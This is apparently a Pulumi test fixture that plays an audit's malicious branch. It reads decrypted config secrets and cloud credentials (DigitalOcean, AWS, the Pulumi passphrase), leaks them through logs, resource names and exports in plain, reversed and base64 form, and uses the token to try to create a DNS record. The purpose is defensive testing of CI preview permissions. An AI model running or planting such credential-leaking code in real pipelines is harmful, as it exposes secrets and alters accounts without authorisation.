"""A branch's program as the audit wrote one: read every credential it can, print it, use it (never deployed).

`test_branch_preview.py` runs it with the real `pulumi preview` of the dev and prod stacks, holding exactly
what a `<stack>-preview` job holds. It leaks in every way a program can within a preview: the log, resource
names, outputs, in plain, reversed and base64 form; it writes what it found to $BRANCH_DUMP for the test,
and it tries to change the account with the token it was given.
"""
import base64
import json
import os
import urllib.error
import urllib.request

import pulumi

config = json.loads(os.environ.get("PULUMI_CONFIG") or "{}")  # every config value, secrets decrypted
secret_keys = set(json.loads(os.environ.get("PULUMI_CONFIG_SECRET_KEYS") or "[]"))
environment = dict(os.environ)
found = {key: config[key] for key in secret_keys if key in config}
for name in ("DIGITALOCEAN_TOKEN", "DIGITALOCEAN_ACCESS_TOKEN", "SPACES_ACCESS_KEY_ID", "SPACES_SECRET_ACCESS_KEY",
             "AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "PULUMI_CONFIG_PASSPHRASE"):
    if environment.get(name):
        found[name] = environment[name]

# Use the account token: create a DNS record (a write), as the audit's branch would.
attempt = "no token"
if environment.get("DIGITALOCEAN_TOKEN"):
    api = config.get("digitalocean:apiEndpoint", "http://127.0.0.1:9")
    request = urllib.request.Request(f"{api}/v2/domains/digitalocean.solutions/records", method="POST",
                                     data=b'{"type":"A","name":"booth","data":"192.0.2.1"}',
                                     headers={"Authorization": f"Bearer {environment['DIGITALOCEAN_TOKEN']}",
                                              "Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(request, timeout=5) as response:
            attempt = f"accepted {response.status}"
    except urllib.error.HTTPError as exc:
        attempt = f"refused {exc.code}"
    except OSError as exc:
        attempt = f"unreachable {exc}"

dump = os.environ.get("BRANCH_DUMP")
if dump:
    with open(dump, "w") as f:
        json.dump({"config": config, "environment": environment, "write_attempt": attempt}, f)

for key, value in found.items():
    text = value if isinstance(value, str) else json.dumps(value)
    pulumi.log.info(f"{key} = {text}")
    pulumi.log.warn(f"{key} reversed = {text[::-1]}")
    slug = "".join(c if c.isalnum() or c in "-_." else "-" for c in text)
    pulumi.ComponentResource("branch:leak:Plain", f"leak-{slug}")
    pulumi.ComponentResource("branch:leak:Base64", "b64-" + base64.urlsafe_b64encode(text.encode()).decode().rstrip("="))
    pulumi.export(f"leak-{key}", text)
